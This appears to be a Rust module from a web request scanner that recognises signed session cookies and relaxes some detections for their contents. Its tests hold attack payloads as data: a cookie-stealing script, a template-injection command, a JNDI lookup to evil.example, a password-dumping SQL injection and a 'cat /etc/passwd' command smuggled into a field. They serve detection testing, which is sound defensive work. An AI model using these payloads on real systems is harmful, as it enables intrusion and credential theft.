//! Sessions that an application keeps in a signed cookie: what it wrote there itself comes back with each
//! request.
//!
//! ```text
//! eyJfZmxhc2hlcyI6..  .  aSrT0w  .  KzX9dGVz..      Flask; `.eJ..` where it is packed
//! eyJoaXN0b3J5Ijpb..  :  1rXyZa  :  QmFzZTY0..      Django
//! session=eyJwYXNz..; session.sig=KzX9dGVzdHNpZ25h   cookie-session of Express
//! ```
//!
//! A reader of such a cookie checks the signature first, so that addresses, paths and whole statements or
//! commands in it are messages of the application to itself. A visitor has typed some of them: what breaks
//! out of a string, markup that runs, templates, code, lookups and serialised objects count as anywhere.

use crate::decode::{self, base64_value};
use crate::detectors::exceptions;
use crate::{Analysis, ByteGroups, Class, Detectors, Finding, Location, Place};

/// Characters of a signature: HMAC-SHA1 in Base64 and longer ones.
const SIGNATURE_BYTES_MIN: usize = 26;
/// Characters of a time in Base64 or base 62.
const TIME_BYTES: std::ops::RangeInclusive<usize> = 5..=11;
/// A session that is unpacked here; browsers keep no more than 4 KiB of a cookie.
const SESSION_BYTES_MAX: u64 = 32 << 10;

/// The document of JSON that a cookie of this value holds, if an application has signed it, here or in a
/// cookie beside it.
pub(crate) fn signed_document(value: &[u8], beside: Option<&[u8]>) -> Option<Vec<u8>> {
    let value = value.strip_prefix(b"\"").and_then(|value| value.strip_suffix(b"\"")).unwrap_or(value);
    if beside.is_some_and(is_signature) {
        return document(value);
    }
    [b'.', b':'].iter().find_map(|sign| {
        let mut parts = value.rsplitn(3, |b| b == sign);
        let (signature, time, payload) = (parts.next()?, parts.next()?, parts.next()?);
        let is_time = TIME_BYTES.contains(&time.len()) && time.iter().all(|b| is_letter(*b));
        (is_signature(signature) && is_time).then(|| document(payload)).flatten()
    })
}

fn is_signature(text: &[u8]) -> bool {
    text.len() >= SIGNATURE_BYTES_MIN && text.iter().all(|b| is_letter(*b))
}

fn is_letter(b: u8) -> bool {
    base64_value(b).is_some()
}

/// JSON in Base64, packed where a dot says so.
fn document(payload: &[u8]) -> Option<Vec<u8>> {
    let (payload, is_packed) = match payload.strip_prefix(b".") {
        Some(packed) => (packed, true),
        None => (payload, false),
    };
    let padding = payload.iter().rev().take_while(|b| **b == b'=').count();
    let mut bytes = Vec::with_capacity(payload.len() * 3 / 4);
    let (mut bits, mut count) = (0, 0);
    for b in &payload[..payload.len() - padding] {
        (bits, count) = (bits << 6 | base64_value(*b)?, count + 6);
        if count >= 8 {
            count -= 8;
            bytes.push((bits >> count) as u8);
        }
    }
    let text = match is_packed {
        true => decode::inflate(&bytes, SESSION_BYTES_MAX).filter(|(_, is_all)| *is_all)?.0,
        false => bytes,
    };
    decode::is_json(&text, ByteGroups::of(&text)).then_some(text)
}

impl Analysis {
    /// Looks at the document of a signed session. What is found there counts for nothing where it is an
    /// address, a path, a whole statement or a whole command.
    pub(crate) fn session(&mut self, detectors: &Detectors, name: &[u8], document: &[u8]) {
        let from = self.values_len();
        self.work.allow_decoded(document.len());
        self.look(detectors, Location::new(Place::Cookie, name), document);
        let breaks_out = |class: Class| {
            let counts = |found: &&Finding| found.value as usize >= from && !found.is_suppressed();
            let mut found = self.findings().iter().filter(counts);
            found.any(|found| found.class == class && exceptions::breaks_out(found.kind))
        };
        let mut classes = vec![Class::Ssrf, Class::RemoteFile, Class::Redirect, Class::Path];
        classes.extend([Class::Sqli, Class::Command].into_iter().filter(|class| !breaks_out(*class)));
        self.excuse_from(from, &classes, "signed-session");
    }
}

#[cfg(test)]
mod tests {
    use std::io::Write as _;
    use std::sync::LazyLock;

    use data_encoding::BASE64URL_NOPAD;

    use super::*;
    use crate::Level;

    static DETECTORS: LazyLock<Detectors> = LazyLock::new(Detectors::new);
    const SIGNATURE: &str = "KzX9dGVzdHNpZ25hdHVyZXh4eXo";

    /// The class that blocks a request with these cookies at `balanced`, or nothing.
    fn verdict(cookies: &str) -> &'static str {
        let mut analysis = Analysis::new();
        let fields = [(&b"Cookie"[..], cookies.as_bytes())];
        analysis.request_head(&DETECTORS, b"GET", b"/", fields.into_iter());
        let worst = analysis.worst(&DETECTORS, Level::Balanced);
        worst.filter(|worst| worst.blocks(Level::Balanced)).map_or("", |worst| worst.class.name())
    }

    /// The session as each framework writes it.
    fn cookies(json: &str) -> [String; 4] {
        let plain = BASE64URL_NOPAD.encode(json.as_bytes());
        // Long enough to be worth packing.
        let json = format!("[{json},{}]", vec![r#"{"category":"info","seen":false}"#; 20].join(","));
        let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
        packer.write_all(json.as_bytes()).unwrap();
        let packed = BASE64URL_NOPAD.encode(&packer.finish().unwrap());
        [
            format!("session={plain}.aSrT0w.{SIGNATURE}"),
            format!("a=1; session=.{packed}.aSrT0w.{SIGNATURE}"),
            format!("messages={plain}:1rXyZa:{SIGNATURE}"),
            format!("session={plain}; session.sig={SIGNATURE}"),
        ]
    }

    #[test]
    fn messages_of_an_application_to_itself() {
        for json in [
            r#"{"_flashes":[["error","http://10.0.0.5:9090/metrics is watched already"]]}"#,
            r#"{"next":"http://10.0.0.5:9090/metrics"}"#,
            r#"{"saved":["~/.ssh/config","/etc/passwd"]}"#,
            r#"{"recent":["SELECT name, pass FROM users WHERE id = 3","cat /etc/hosts"]}"#,
        ] {
            for cookies in cookies(json) {
                assert_eq!(verdict(&cookies), "", "{cookies}");
            }
        }
    }

    #[test]
    fn what_acts_counts_in_a_session_too() {
        for json in [
            r#"{"name":"<script>alert(document.cookie)</script>"}"#,
            r#"{"name":"{{ self.__init__.__globals__.os.popen('id').read() }}"}"#,
            r#"{"name":"${jndi:ldap://evil.example/a}"}"#,
            r#"{"name":"x' union select user, password from users-- "}"#,
            r#"{"host":"x;cat /etc/passwd"}"#,
        ] {
            for cookies in cookies(json) {
                assert_ne!(verdict(&cookies), "", "{cookies}");
            }
        }
    }

    /// Without a signature, a time or a document it is a value like any other.
    #[test]
    fn what_nobody_has_signed() {
        let [flask, _, django, express] = cookies(r#"{"next":"http://10.0.0.5:9090/metrics"}"#);
        assert_ne!(verdict(&flask.replace(SIGNATURE, "short")), "");
        assert_ne!(verdict(&django.replace(":1rXyZa", "")), "");
        assert_ne!(verdict(express.split(';').next().unwrap()), "");
        let [text, ..] = cookies("http://10.0.0.5:9090/metrics");
        assert_ne!(verdict(&text), "");
    }
}
